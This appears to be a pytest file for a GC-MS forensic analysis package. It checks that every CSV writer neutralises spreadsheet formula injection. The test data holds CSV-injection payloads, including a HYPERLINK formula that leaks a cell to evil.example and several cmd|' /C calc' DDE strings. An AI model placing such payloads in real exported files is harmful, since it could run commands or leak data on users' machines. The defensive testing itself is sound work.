"""Every CSV gcms writes is safe to open in a spreadsheet (OWASP "CSV Injection").

Hostile sample, case and exhibit ids (``=HYPERLINK(...)``, ``+cmd|...``, ``@SUM``, a tab or
a carriage return before ``=``) are built into the records directly, past the intake
check of the sequence reader, then each writer's file is read back as a spreadsheet
reads it (Python's csv module: one cell per field, quotes removed): no cell may start
with a formula trigger unless it is a plain number, and a negative number we write must
still be that number.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from pathlib import Path

import pytest

from gcms.identifiers import spreadsheet_safe, spreadsheet_safe_row

HOSTILE = {
    "sample_id": '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "case_id": "+cmd|' /C calc'!A0",
    "exhibit_id": "@SUM(1+1)*cmd|' /C calc'!A0",
}
MORE_HOSTILE = ["-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1", "E7\r=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def cells_of(text: str) -> list[list[str]]:
    """The cells of a CSV text as a spreadsheet gets them."""
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula(text: str) -> list[list[str]]:
    rows = cells_of(text)
    for row in rows:
        for cell in row:
            if cell.startswith(TRIGGERS):
                assert PLAIN_NUMBER.fullmatch(cell), f"formula cell {cell!r}"
    return rows


def test_spreadsheet_safe_quotes_triggers_and_keeps_numbers():
    for value in [*HOSTILE.values(), *MORE_HOSTILE[:-1]]:
        assert spreadsheet_safe(value) == "'" + value
    for value in ("-3.20", "+1e-5", "-0.06", "12", "Methamphetamine", "", "(-)-Ephedrine"):
        assert spreadsheet_safe(value) == value
    for value in (-3.2, 0, None, True):
        assert spreadsheet_safe(value) is value
    assert spreadsheet_safe_row(["=1", -1.5]) == ["'=1", -1.5]
    # a CR inside a cell is written as LF: csv then quotes it whatever the line terminator
    assert spreadsheet_safe_row(["E7\r=1+1", "\r=1"]) == ["E7\n=1+1", "'\n=1"]


# ---------------------------------------------------------------- batch: summary and runs
def _record(position: int, sample_id: str, *, case_id: str, exhibit_id: str,
            substance: str = "Methamphetamine") -> dict:
    component = {"component": 1, "rt_s": 252.5, "rt_min": 4.2083, "retention_index": 1232.1,
                 "ri_extrapolated": False, "scan": 505, "model_mz": 58, "snr": 812.0,
                 "purity": 0.97, "area": 1.5e6, "height": 2.0e5, "width_s": 3.1,
                 "substance": substance, "verdict": "identified", "alternatives": [],
                 "notes": [], "match_factor": 912, "reverse_match_factor": 930,
                 "retention_source": "ladder", "delta_rt_s": -0.06, "delta_ri": -3.5,
                 "failed": [], "warnings": ["=cmd|' /C calc'!A0 saturated"]}
    finding = {"substance": substance, "verdict": "identified", "component": 1,
               "rt_s": 252.5, "retention_index": 1232.1, "match_factor": 912,
               "reverse_match_factor": 930, "retention_source": "ladder",
               "delta_rt_s": -0.06, "delta_ri": -3.5, "techniques": [], "failed": [],
               "evidence": "library search", "in_scope": True, "controlled": [],
               "found_by": "search"}
    return {"position": position, "file": f"/runs/{position}.cdf",
            "file_name": f"{position}.cdf", "type": "sample", "sample_id": sample_id,
            "case_id": case_id, "exhibit_id": exhibit_id, "reference_substances": [],
            "concentration": None, "unit": None, "amount": None, "amount_unit": None,
            "volume_ml": None, "dilution": None, "status": "ok", "problem": None,
            "findings": {"identified": [finding], "inconclusive": [], "conclusion": [],
                         "out_of_scope": [], "notes": []},
            "components": [component], "problems": ["@risk noted"]}


def _document(records: list[dict]) -> dict:
    """The envelope of a batch's results document around ``records`` (the writer checks it)."""
    from gcms import __version__
    from gcms.results import FORMAT, FORMAT_VERSION

    return {"format": FORMAT, "format_version": FORMAT_VERSION, "gcms_version": __version__,
            "created_utc": "2026-01-01T00:00:00Z",
            "sequence": {"path": "/runs/sequence.csv", "sha256": "0" * 64,
                         "n_runs": len(records)},
            "library": {"path": "/lib.h5", "title": "test", "content_sha256": "0" * 64,
                        "identity_sha256": "0" * 64, "n_entries": 1},
            "criteria": {}, "settings": {}, "steps": [], "runs": records, "exhibits": [],
            "failed": [], "sequence_notes": [], "step_failures": []}


def test_batch_summary_and_run_tables_are_neutralised(tmp_path):
    from gcms.batch.output import write_outputs

    records = [_record(0, **HOSTILE)]
    records += [_record(i + 1, value, case_id=value, exhibit_id=value,
                        substance="-" + "Phentermine" if i == 0 else "Amphetamine")
                for i, value in enumerate(MORE_HOSTILE)]
    write_outputs(tmp_path, _document(records))
    summary = assert_no_formula((tmp_path / "summary.csv").read_text(encoding="utf-8"))
    header, rows = summary[0], summary[1:]
    first = dict(zip(header, rows[0], strict=True))
    for column, value in HOSTILE.items():
        assert first[column] == "'" + value  # kept whole, shown as text
    assert first["problem"] == "'@risk noted"
    # a CR is written as LF inside the quoted cell: to a spreadsheet both are a line break
    # in the cell, but a bare CR is not quoted by csv and would start a new row
    assert [r[header.index("sample_id")] for r in rows[1:]] == [
        spreadsheet_safe(v).replace("\r", "\n") for v in MORE_HOSTILE]
    assert len(rows) == 1 + len(MORE_HOSTILE)
    assert first["position"] == "1"
    tables = sorted((tmp_path / "runs").glob("*.csv"))
    assert len(tables) == 1 + len(MORE_HOSTILE)
    for table in tables:
        rows = assert_no_formula(table.read_text(encoding="utf-8"))
        row = dict(zip(rows[0], rows[1], strict=True))
        # negative numbers we write as numbers stay numbers
        assert float(row["delta_ri"]) == -3.5 and float(row["delta_rt_s"]) == -0.06
        assert row["warnings"].startswith("'=cmd")
    second = dict(zip(*cells_of((tables[1]).read_text(encoding="utf-8"))[:2], strict=True))
    assert second["substance"] == "'-Phentermine"


# ---------------------------------------------------------------- quantitation.csv
def test_quantitation_table_is_neutralised(tmp_path):
    from gcms.quantitation import parse_method
    from gcms.quantitation.output import write_results
    from gcms.quantitation.process import QuantitationResult, RunRecord
    from gcms.quantitation.quantity import Quantity
    from gcms.sequence import Injection

    method = parse_method({
        "schema": "gcms-quant-method/1",
        "method": {"name": "csv safety", "unit": "ug/mL"},
        "acceptance": {"min_calibrators": 5},
        "internal_standard": [{"id": "IS", "name": "IS", "quantifier_mz": 140,
                               "qualifier_mz": [141], "rt_s": 300.0, "rt_window_s": 10.0}],
        "analyte": [{"name": "Etizolam", "quantifier_mz": 342, "qualifier_mz": [344],
                     "rt_s": 600.0, "rt_window_s": 10.0, "internal_standard": "IS",
                     "model": "linear", "weighting": "1/x"}],
    }, source="csv-safety.toml")

    def injection(position: int, sample_id: str) -> Injection:
        return Injection(position=position, file=Path(f"/runs/{position}.D"), type="sample",
                         sample_id=sample_id, case_id=HOSTILE["case_id"],
                         exhibit_id=HOSTILE["exhibit_id"])

    below = Quantity(substance="Etizolam", role="unknown", status="below LOD",
                     reportable=False, unit="ug/mL", estimate=-1.25,
                     flags=("=cmd|' /C calc'!A0",), message="-below the limit")
    records = (RunRecord(injection(0, HOSTILE["sample_id"]), quantities=(below,)),
               RunRecord(injection(1, "@SUM(9)"), error="+cannot read the run"))
    result = QuantitationResult(method=method, sequence_path="/runs/seq.csv",
                                records=records, calibrations={})
    write_results(result, tmp_path)
    rows = assert_no_formula((tmp_path / "quantitation.csv").read_text(encoding="utf-8"))
    table = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert table[0]["sample_id"] == "'" + HOSTILE["sample_id"]
    assert table[0]["exhibit_id"] == "'" + HOSTILE["exhibit_id"]
    assert float(table[0]["estimate"]) == -1.25  # a negative number stays a number
    assert table[0]["flags"].startswith("'=") and table[0]["message"] == "'-below the limit"
    assert table[1]["sample_id"] == "'@SUM(9)" and table[1]["message"] == "'+cannot read the run"


# ---------------------------------------------------------------- report CSV
def test_report_csv_is_neutralised():
    report_models = pytest.importorskip("report.models")
    from gcms.report.jsonout import report_csv

    model = report_models.full_model()
    findings = tuple(dataclasses.replace(f, sample_id=HOSTILE["sample_id"], delta_ri=-4.0,
                                         reference_run="std.cdf\r=cmd|' /C calc'!A0")
                     for f in model.findings)
    hostile = dataclasses.replace(model, case_id=HOSTILE["case_id"],
                                  exhibit_id=HOSTILE["exhibit_id"],
                                  report_id="-RPT", findings=findings)
    rows = assert_no_formula(report_csv(hostile))
    table = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert len(table) == len(findings)  # no row started inside a cell
    for row in table:
        assert row["case_id"] == "'" + HOSTILE["case_id"]
        assert row["exhibit_id"] == "'" + HOSTILE["exhibit_id"]
        assert row["sample_id"] == "'" + HOSTILE["sample_id"]
        assert row["report_id"] == "'-RPT"
        assert row["reference_run"] == "std.cdf\n=cmd|' /C calc'!A0"
    assert float(table[0]["delta_ri"]) == -4.0


# ---------------------------------------------------------------- every writer is covered
def test_every_csv_writer_in_gcms_neutralises_its_rows():
    """A new csv writer must call spreadsheet_safe: this lists the files that write CSV."""
    root = Path(__file__).resolve().parents[1]
    writers = []
    for path in sorted([*(root / "gcms").rglob("*.py"), *(root / "cli").rglob("*.py")]):
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(", text):
            writers.append(path.relative_to(root).as_posix())
            assert "spreadsheet_safe" in text, f"{path}: writes CSV without spreadsheet_safe"
    assert "gcms/batch/output.py" in writers and "gcms/report/jsonout.py" in writers
